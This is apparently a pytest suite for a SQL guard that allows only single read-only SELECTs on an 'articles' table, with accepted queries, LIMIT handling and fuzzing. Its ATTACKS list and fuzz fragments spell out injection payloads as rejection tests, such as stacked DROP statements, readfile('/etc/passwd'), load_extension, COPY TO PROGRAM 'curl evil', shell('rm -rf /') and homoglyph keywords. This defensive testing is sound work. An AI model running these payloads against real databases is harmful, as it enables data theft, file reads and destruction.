"""SQL guard: accepted reads, rejected writes and escapes, LIMIT handling, fence stripping, fuzzing.

The attack list is also run against a real read-only SQLite file whose hash must not change.
"""

from __future__ import annotations

import contextlib
import hashlib
import logging
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlglot
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlglot import exp

from rag.answer.sql_guard import GuardedSQL, guard_sql, strip_sql_fences
from rag.errors import UnsafeSQL

TABLE = "articles"
COLUMNS = ("url", "title", "authors", "published_date", "article_category", "word_count", "full_content")
WRITE_NODES: tuple[type[exp.Expr], ...] = (
    exp.Insert, exp.Update, exp.Delete, exp.Merge, exp.Drop, exp.Create, exp.Alter, exp.TruncateTable,
    exp.Command, exp.Into, exp.Pragma, exp.Attach, exp.Detach, exp.Transaction, exp.Commit,
    exp.Rollback, exp.Set, exp.Copy, exp.Grant, exp.Use, exp.Values, exp.Returning,
)  # fmt: skip


@pytest.fixture(autouse=True, scope="module")
def _quiet_sqlglot() -> Iterator[None]:
    """sqlglot logs a warning for every statement it falls back to parsing as a Command."""
    logger = logging.getLogger("sqlglot")
    level = logger.level
    logger.setLevel(logging.ERROR)
    yield
    logger.setLevel(level)


def guard(sql: str, dialect: str = "sqlite", max_rows: int = 1000) -> GuardedSQL:
    return guard_sql(sql, table=TABLE, columns=COLUMNS, dialect=dialect, max_rows=max_rows)


def assert_safe_output(sql: str, dialect: str, max_rows: int = 1000) -> None:
    """The invariant for anything the guard lets through, checked independently of its code."""
    statements = sqlglot.parse(sql, dialect=dialect)
    assert len(statements) == 1, sql
    root = statements[0]
    assert isinstance(root, (exp.Select, exp.SetOperation)), sql
    for query in root.find_all(exp.Query):
        assert isinstance(query, (exp.Select, exp.SetOperation, exp.Subquery)), sql
    assert not list(root.find_all(*WRITE_NODES)), sql
    cte_names = {cte.alias_or_name.lower() for cte in root.find_all(exp.CTE)}
    for table in root.find_all(exp.Table):
        assert isinstance(table.this, exp.Identifier), sql
        assert not table.args.get("db") and not table.args.get("catalog"), sql
        assert table.name.lower() in {TABLE} | cte_names, sql
    limit = root.args.get("limit")
    assert isinstance(limit, exp.Limit) and limit.expression.is_int, sql
    assert int(limit.expression.name) <= max_rows, sql


def make_articles_db(path: Path) -> Path:
    """A five-row `articles` table like the product's sample data."""
    rows = [
        (f"https://news.example/{i}", title, author, f"2023-0{i}-1{i}", category, 100 * i, f"Body {i}.")
        for i, (title, author, category) in enumerate(
            [("Rates rise", "Ann Lee", "economy"), ("Café openings", "Bo Chen", "food"),
             ("AI chips", "Cy Diaz", "tech"), ("Cup final", "Di Eze", "sport"),
             ("Budget vote", "Ed Fox", "politics")],
            start=1,
        )
    ]  # fmt: skip
    with sqlite3.connect(path) as conn:
        conn.execute(
            "CREATE TABLE articles (url TEXT PRIMARY KEY, title TEXT, authors TEXT, published_date TEXT, "
            "article_category TEXT, word_count INTEGER, full_content TEXT)"
        )
        conn.executemany("INSERT INTO articles VALUES (?, ?, ?, ?, ?, ?, ?)", rows)
    conn.close()
    return path


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def read_only(path: Path) -> sqlite3.Connection:
    return sqlite3.connect(f"file:{path}?mode=ro", uri=True)


@pytest.fixture(scope="module")
def shared_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_articles_db(tmp_path_factory.mktemp("guard") / "articles.db")


# --------------------------------------------------------------------------- accepted

ACCEPTED = [
    "SELECT * FROM articles",
    "select title, url from ARTICLES where WORD_COUNT > 200",
    'SELECT "title" FROM "articles"',
    "SELECT article_category, COUNT(*) AS n FROM articles GROUP BY article_category ORDER BY n DESC",
    "SELECT strftime('%Y', published_date) AS year, COUNT(*) FROM articles GROUP BY year ORDER BY year",
    "SELECT ROUND(AVG(word_count), 1) AS avg_words, MAX(word_count), MIN(published_date) FROM articles",
    "WITH recent AS (SELECT * FROM articles WHERE published_date >= '2023-03-01') "
    "SELECT title FROM recent",
    "WITH a AS (SELECT url, word_count FROM articles), b AS (SELECT url FROM a WHERE word_count > 1) "
    "SELECT COUNT(*) FROM b",
    "WITH x(link, words) AS (SELECT url, word_count FROM articles) SELECT link FROM x ORDER BY words",
    "SELECT title FROM articles WHERE word_count > (SELECT AVG(word_count) FROM articles)",
    "SELECT title FROM articles WHERE url IN (SELECT url FROM articles WHERE authors LIKE '%Lee%')",
    "SELECT title FROM articles UNION SELECT authors FROM articles",
    "SELECT title FROM articles EXCEPT SELECT title FROM articles WHERE word_count < 300",
    "SELECT title, word_count AS words FROM articles ORDER BY words DESC",
    "SELECT a.title FROM articles AS a JOIN articles AS b ON a.url = b.url",
    "SELECT * FROM (SELECT title, word_count FROM articles) AS sub WHERE sub.word_count > 150",
    "SELECT CASE WHEN word_count > 250 THEN 'long' ELSE 'short' END AS size, COUNT(DISTINCT authors) "
    "FROM articles GROUP BY size HAVING COUNT(*) > 0",
    "SELECT title FROM articles WHERE title LIKE '%Café%'",
    "SELECT lower(title), length(full_content), substr(title, 1, 3) || '...', coalesce(authors, '?') "
    "FROM articles",
    "SELECT title, ROW_NUMBER() OVER (PARTITION BY article_category ORDER BY word_count DESC) AS rank_in_cat "
    "FROM articles",
    "SELECT date(published_date, 'start of month') AS month, group_concat(title, '; ') FROM articles "
    "GROUP BY month",
    "SELECT title FROM articles WHERE published_date BETWEEN '2023-01-01' AND '2023-12-31' AND authors "
    "IS NOT NULL ORDER BY title COLLATE NOCASE",
    "SELECT COUNT(*) FROM articles WHERE EXISTS (SELECT 1 FROM articles AS b WHERE b.url = articles.url)",
    "SELECT title FROM articles -- a trailing comment",
    "(SELECT title FROM articles)",
]


@pytest.mark.parametrize("sql", ACCEPTED)
def test_accepted_queries_pass_and_run_on_sqlite(sql: str, shared_db: Path) -> None:
    guarded = guard(sql)
    assert guarded.original == sql
    assert_safe_output(guarded.sql, "sqlite")
    with read_only(shared_db) as conn:
        rows = conn.execute(guarded.sql).fetchall()
    assert len(rows) <= guarded.limit


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT date_trunc('month', published_date) AS m, count(*) FROM articles GROUP BY m ORDER BY m",
        "SELECT EXTRACT(YEAR FROM published_date) AS y, string_agg(title, ', ') FROM articles GROUP BY y",
        "SELECT title FROM articles WHERE title ILIKE '%ai%' ORDER BY published_date DESC NULLS LAST",
        "SELECT title::text FROM articles WHERE published_date > NOW() - INTERVAL '30 days'",
        "SELECT count(*) FILTER (WHERE word_count > 5) FROM articles",
        "(SELECT title FROM articles ORDER BY word_count LIMIT 2) UNION (SELECT url FROM articles)",
    ],
)
def test_accepted_postgres_queries(sql: str) -> None:
    assert_safe_output(guard(sql, dialect="postgres").sql, "postgres")


def test_sqlalchemy_postgresql_dialect_name_is_accepted() -> None:
    guarded = guard("SELECT title FROM articles", dialect="postgresql")
    assert guarded.sql == "SELECT title FROM articles LIMIT 1000"


def test_sql_is_regenerated_without_comments() -> None:
    guarded = guard("select  title /* why not */ from articles where word_count>10")
    assert guarded.sql == "SELECT title FROM articles WHERE word_count > 10 LIMIT 1000"


def test_non_ascii_inside_string_literal_is_kept() -> None:
    assert "'Café ☕'" in guard("SELECT url FROM articles WHERE title = 'Café ☕'").sql


# --------------------------------------------------------------------------- LIMIT


def test_limit_added_when_absent() -> None:
    guarded = guard("SELECT title FROM articles", max_rows=100)
    assert guarded.sql.endswith("LIMIT 100")
    assert (guarded.limit, guarded.notes) == (100, ("LIMIT 100 added",))


def test_limit_within_bounds_is_kept() -> None:
    guarded = guard("SELECT title FROM articles LIMIT 10 OFFSET 20")
    assert guarded.sql == "SELECT title FROM articles LIMIT 10 OFFSET 20"
    assert (guarded.limit, guarded.notes) == (10, ())


def test_limit_above_max_is_capped() -> None:
    guarded = guard("SELECT title FROM articles LIMIT 5000")
    assert guarded.sql == "SELECT title FROM articles LIMIT 1000"
    assert (guarded.limit, guarded.notes) == (1000, ("LIMIT 5000 capped to 1000",))


@pytest.mark.parametrize(
    "limit", ["(SELECT 5)", "?", "-1", "10 + 5", "'7'", "1.5", "(SELECT COUNT(*) FROM sqlite_master)"]
)
def test_limit_that_is_not_an_integer_literal_is_replaced(limit: str) -> None:
    guarded = guard(f"SELECT title FROM articles LIMIT {limit}")
    assert guarded.sql == "SELECT title FROM articles LIMIT 1000"
    assert guarded.limit == 1000
    assert guarded.notes == ("LIMIT that is not a plain number replaced by 1000",)


def test_limit_applies_to_the_whole_union() -> None:
    guarded = guard("SELECT title FROM articles UNION ALL SELECT url FROM articles LIMIT 5000", max_rows=50)
    root = sqlglot.parse_one(guarded.sql, dialect="sqlite")
    assert isinstance(root, exp.Union)
    assert root.args["limit"].expression.name == "50"
    assert root.this.args.get("limit") is None and root.expression.args.get("limit") is None
    assert guarded.notes == ("LIMIT 5000 capped to 50",)


def test_postgres_fetch_first_becomes_limit() -> None:
    guarded = guard("SELECT title FROM articles OFFSET 5 ROWS FETCH FIRST 20 ROWS ONLY", dialect="postgres")
    assert guarded.sql == "SELECT title FROM articles LIMIT 20 OFFSET 5"
    assert guarded.notes == ()


# --------------------------------------------------------------------------- rejected

# (statement, dialect, words the message must contain)
ATTACKS: list[tuple[str, str, str]] = [
    ("DROP TABLE articles", "sqlite", "found DROP"),
    ("DELETE FROM articles", "sqlite", "found DELETE"),
    ("UPDATE articles SET title = 'x'", "sqlite", "found UPDATE"),
    ("INSERT INTO articles (url) VALUES ('x')", "sqlite", "found INSERT"),
    ("REPLACE INTO articles (url) VALUES ('x')", "sqlite", "found REPLACE"),
    ("CREATE TABLE stolen AS SELECT * FROM articles", "sqlite", "found CREATE"),
    ("ALTER TABLE articles ADD COLUMN x INTEGER", "sqlite", "found ALTER"),
    ("SELECT 1; DROP TABLE articles", "sqlite", "2 statements"),
    ("SELECT * FROM articles; DELETE FROM articles;", "sqlite", "2 statements"),
    ("WITH x AS (DELETE FROM articles RETURNING *) SELECT * FROM x", "sqlite", "found DELETE"),
    ("WITH x AS (INSERT INTO articles (url) VALUES ('x') RETURNING url) SELECT url FROM x", "postgres",
     "found INSERT"),
    ("SELECT * INTO stolen FROM articles", "sqlite", "SELECT ... INTO"),
    ("SELECT * INTO TEMP stolen FROM articles", "postgres", "SELECT ... INTO"),
    ("PRAGMA table_info(articles)", "sqlite", "found PRAGMA"),
    ("PRAGMA writable_schema = 1", "sqlite", "found PRAGMA"),
    ("ATTACH DATABASE 'evil.db' AS evil", "sqlite", "found ATTACH"),
    ("DETACH DATABASE main", "sqlite", "found DETACH"),
    ("VACUUM INTO 'stolen.db'", "sqlite", "found VACUUM"),
    ("BEGIN", "sqlite", "found BEGIN"),
    ("REINDEX articles", "sqlite", "found REINDEX"),
    ("SELECT load_extension('evil.so')", "sqlite", "Function 'load_extension'"),
    ("SELECT title FROM articles WHERE readfile('/etc/passwd') IS NOT NULL", "sqlite", "Function 'readfile'"),
    ("SELECT writefile('evil.txt', title) FROM articles", "sqlite", "Function 'writefile'"),
    ("SELECT sqlite_version()", "sqlite", "Function 'sqlite_version'"),
    ("SELECT randomblob(1000000000)", "sqlite", "Function 'randomblob'"),
    ("SELECT * FROM sqlite_master", "sqlite", "System table 'sqlite_master'"),
    ("SELECT sql FROM sqlite_schema", "sqlite", "sqlite_schema"),
    ("SELECT * FROM articles NATURAL JOIN sqlite_temp_master", "sqlite", "sqlite_temp_master"),
    ('SELECT * FROM "SQLITE_MASTER"', "sqlite", "SQLITE_MASTER"),
    ("SELECT * FROM pragma_table_info('articles')", "sqlite", "Table-valued function 'pragma_table_info'"),
    ("SELECT * FROM generate_series(1, 10)", "sqlite", "Table-valued function"),
    ("SELECT * FROM users", "sqlite", "Table 'users' is not allowed"),
    ("SELECT url FROM articles UNION SELECT password FROM users", "sqlite", "users"),
    ("SELECT * FROM main.articles", "sqlite", "Schema-qualified table 'main.articles'"),
    ("SELECT * FROM other.users", "sqlite", "Schema-qualified table 'other.users'"),
    ("SELECT * FROM secrets WHERE 1 IN (WITH secrets AS (SELECT 1) SELECT * FROM secrets)", "sqlite",
     "Table 'secrets'"),
    ("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "postgres", "Table 'b'"),
    ("SELECT password FROM articles", "sqlite", "Unknown column 'password'"),
    ("SELECT rowid, title FROM articles", "sqlite", "Unknown column 'rowid'"),
    ("DEL/**/ETE FROM articles", "sqlite", "could not be parsed"),
    ("DROP/**/TABLE/**/articles", "sqlite", "found DROP"),
    ("dElEtE fRoM articles", "sqlite", "found DELETE"),
    ("S\u0415LECT * FROM articles", "sqlite", "non-ASCII character"),  # Cyrillic Е
    ("D\u0415LETE FROM articles", "sqlite", "non-ASCII character"),
    ("\uff24\uff25\uff2c\uff25\uff34\uff25 FROM articles", "sqlite", "non-ASCII character"),  # fullwidth
    ("SELECT title FROM articles\uff1b DROP TABLE articles", "sqlite", "non-ASCII character"),  # ；
    ("SELECT\u00a0title FROM articles", "sqlite", "non-ASCII character"),  # no-break space
    ("SELECT title FROM articles\x00; DROP TABLE articles", "sqlite", "control character U+0000"),
    ("SELECT title FROM articles WHERE title = '\x00'", "sqlite", "control character U+0000"),
    ("SELECT pg_sleep(10)", "postgres", "Function 'pg_sleep'"),
    ("SELECT pg_catalog.pg_sleep(10)", "postgres", "unsupported syntax"),
    ("SELECT pg_read_file('/etc/passwd')", "postgres", "Function 'pg_read_file'"),
    ("SELECT lo_import('/etc/passwd')", "postgres", "Function 'lo_import'"),
    ("SELECT dblink_exec('host=x', 'DROP TABLE articles')", "postgres", "Function 'dblink_exec'"),
    ("SELECT set_config('search_path', 'evil', false)", "postgres", "Function 'set_config'"),
    ("COPY articles TO '/tmp/stolen.csv'", "postgres", "found COPY"),
    ("COPY (SELECT * FROM articles) TO PROGRAM 'curl evil'", "postgres", "found COPY"),
    ("SET search_path = evil", "postgres", "found SET"),
    ("GRANT ALL ON articles TO mallory", "postgres", "found GRANT"),
    ("SELECT * FROM information_schema.tables", "postgres", "information_schema.tables"),
    ("SELECT * FROM pg_shadow", "postgres", "System table 'pg_shadow'"),
    ("SELECT * FROM articles FOR UPDATE", "postgres", "FOR UPDATE"),
    ("SELECT title FROM articles WHERE url = $1", "postgres", "parameters"),
    ("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT COUNT(*) FROM c", "sqlite",
     "Recursive"),
    ("SELECT shell('rm -rf /')", "sqlite", "not in the list of allowed functions"),
    ("", "sqlite", "empty"),
    ("   \n\t ", "sqlite", "empty"),
    ("```sql\n```", "sqlite", "empty"),
    (";", "sqlite", "empty"),
    ("SELECT FROM WHERE", "sqlite", "could not be parsed"),
    ("SELECT title FROM articles WHERE title = 'unterminated", "sqlite", "could not be parsed"),
]  # fmt: skip


@pytest.mark.parametrize(("sql", "dialect", "reason"), ATTACKS, ids=[f"{d}:{s[:40]}" for s, d, _ in ATTACKS])
def test_attacks_are_rejected_with_reason(sql: str, dialect: str, reason: str) -> None:
    with pytest.raises(UnsafeSQL) as raised:
        guard(sql, dialect=dialect)
    assert reason in str(raised.value)


def test_rejection_message_is_plain_words() -> None:
    with pytest.raises(UnsafeSQL) as raised:
        guard("DELETE FROM articles")
    assert str(raised.value) == "Only a single SELECT on table 'articles' is allowed; found DELETE."


def test_attacks_cannot_change_a_real_database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)  # files an attack might create land here
    db = make_articles_db(tmp_path / "articles.db")
    before = sha256(db)
    passed = []
    for sql, dialect, _ in ATTACKS:
        try:
            guarded = guard(sql, dialect=dialect)
        except UnsafeSQL:
            continue
        passed.append(sql)
        with read_only(db) as conn, contextlib.suppress(sqlite3.Error):
            conn.execute(guarded.sql).fetchall()
        conn.close()
    assert sha256(db) == before
    assert passed == []


def test_bad_configuration_is_a_programming_error() -> None:
    with pytest.raises(ValueError):
        guard("SELECT title FROM articles", dialect="no-such-dialect")
    with pytest.raises(ValueError):
        guard("SELECT title FROM articles", max_rows=0)


# --------------------------------------------------------------------------- fences


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("```sql\nSELECT title FROM articles;\n```", "SELECT title FROM articles"),
        ("Here you go:\n```SQL\nSELECT 1\n```\nHope it helps", "SELECT 1"),
        ("```\nSELECT title FROM articles\n```", "SELECT title FROM articles"),
        ("SQLQuery: SELECT title FROM articles", "SELECT title FROM articles"),
        ("sql\nSELECT title FROM articles", "SELECT title FROM articles"),
        ("  SELECT title FROM articles;  ", "SELECT title FROM articles"),
        ("SELECT 1;;", "SELECT 1;"),
        ("SQLQuery: SELECT COUNT(*) FROM articles\nSQLResult: [(5,)]\nAnswer: five",
         "SELECT COUNT(*) FROM articles"),
        ("SELECT sqlite_version FROM t", "SELECT sqlite_version FROM t"),
        ("", ""),
    ],
)
def test_strip_sql_fences(text: str, expected: str) -> None:
    assert strip_sql_fences(text) == expected


def test_guard_strips_fences_but_keeps_original() -> None:
    text = "```sql\nSELECT title FROM articles;\n```"
    guarded = guard(text)
    assert (guarded.sql, guarded.original) == ("SELECT title FROM articles LIMIT 1000", text)


# --------------------------------------------------------------------------- property-based

VERBS = ["SELECT", "DELETE", "DROP", "TABLE", "INSERT", "INTO", "UPDATE", "SET", "REPLACE", "CREATE",
         "ALTER", "ADD", "TRUNCATE", "ATTACH", "DATABASE", "DETACH", "PRAGMA", "VACUUM", "COPY", "GRANT",
         "BEGIN", "COMMIT", "EXPLAIN", "REINDEX", "WITH", "RECURSIVE", "AS", "FROM", "WHERE", "UNION",
         "ALL", "VALUES", "RETURNING", "LIMIT", "OFFSET", "ORDER BY", "GROUP BY", "JOIN", "ON", "AND",
         "OR", "NOT", "IN", "EXISTS", "CASE WHEN", "THEN", "END", "FOR UPDATE", "TO PROGRAM"]
TABLES = ["articles", "ARTICLES", '"articles"', "[articles]", "sqlite_master", "sqlite_schema",
          "sqlite_temp_master", "main.articles", "temp.articles", "information_schema.tables",
          "pg_catalog.pg_user", "pg_shadow", "users", "x", "pragma_table_info('articles')",
          "generate_series(1, 3)"]
COLUMN_NAMES = [*COLUMNS, "password", "rowid", "sql", "name", "*", "COUNT(*)", "x", "a.url", "main.x.y"]
CALLS = ["load_extension('x')", "readfile('x')", "writefile('x', 'y')", "pg_sleep(1)", "sqlite_version()",
         "strftime('%Y', published_date)", "lower(title)", "randomblob(9)", "exec('x')", "edit('x')",
         "current_setting('x')", "pg_read_file('x')", "upper(url)", "max(word_count)", "?", ":p", "$1"]
PUNCTUATION = [";", ",", "(", ")", "=", ">", "'", '"', "*", ".", "1", "0", "'x'", "--", "/*", "*/", "/**/",
               "\n", "\t", " ", "||", "`"]
# Cyrillic Е, fullwidth DROP / SELECT, no-break and zero-width spaces, long s, fullwidth ;, ’, Dž
LOOKALIKES = ["S\u0415LECT", "D\u0415LETE", "\uff24\uff32\uff2f\uff30",
              "\uff33\uff25\uff2c\uff25\uff23\uff34",
              "\u00a0", "\u200b", "\u017felect", "\uff1b", "\u2019", "ＤＥＬ/**/ＥＴＥ", "\u01c5"]
FRAGMENT = st.one_of(
    st.sampled_from(VERBS + TABLES + COLUMN_NAMES + CALLS + PUNCTUATION + LOOKALIKES),
    st.text(max_size=6),
)
SEPARATOR = st.sampled_from([" ", " ", "", "\n", "/**/", ";"])
TEMPLATE_SQL = st.builds(
    "SELECT {} FROM {}{}{}".format,
    st.sampled_from(COLUMN_NAMES + CALLS),
    st.sampled_from(TABLES),
    st.sampled_from(["", " WHERE word_count > 1", " WHERE url IN (SELECT url FROM articles)",
                     " GROUP BY title", " ORDER BY 1 DESC"]),
    st.sampled_from(["", " LIMIT 5", " LIMIT 5000", " LIMIT ?", "; DROP TABLE articles", ";",
                     " UNION SELECT sql FROM sqlite_master", " -- */; DELETE FROM articles; /*"]),
)  # fmt: skip


@st.composite
def statements(draw: st.DrawFn) -> str:
    """Random fragment soup, templates, and accepted queries with a fragment spliced in."""
    kind = draw(st.sampled_from(["soup", "template", "splice", "splice"]))
    if kind == "template":
        return draw(TEMPLATE_SQL)
    if kind == "splice":
        base = draw(st.sampled_from(ACCEPTED))
        at = draw(st.integers(0, len(base)))
        return base[:at] + draw(SEPARATOR) + draw(FRAGMENT) + draw(SEPARATOR) + base[at:]
    parts = draw(st.lists(st.tuples(FRAGMENT, SEPARATOR), min_size=1, max_size=16))
    return "".join(fragment + separator for fragment, separator in parts)


@settings(max_examples=500, deadline=None)
@given(sql=statements(), dialect=st.sampled_from(["sqlite", "postgres"]))
def test_fuzz_guard_either_rejects_or_returns_a_single_safe_select(
    sql: str, dialect: str, shared_db: Path
) -> None:
    try:
        guarded = guard(sql, dialect=dialect, max_rows=100)
    except UnsafeSQL:
        return  # any other exception type fails the test
    assert_safe_output(guarded.sql, dialect, max_rows=100)
    if dialect == "sqlite":
        before = sha256(shared_db)
        with read_only(shared_db) as conn, contextlib.suppress(sqlite3.Error):
            conn.execute(guarded.sql).fetchall()  # may fail (sqlite lacks ILIKE); a write shows in the hash
        conn.close()
        assert sha256(shared_db) == before
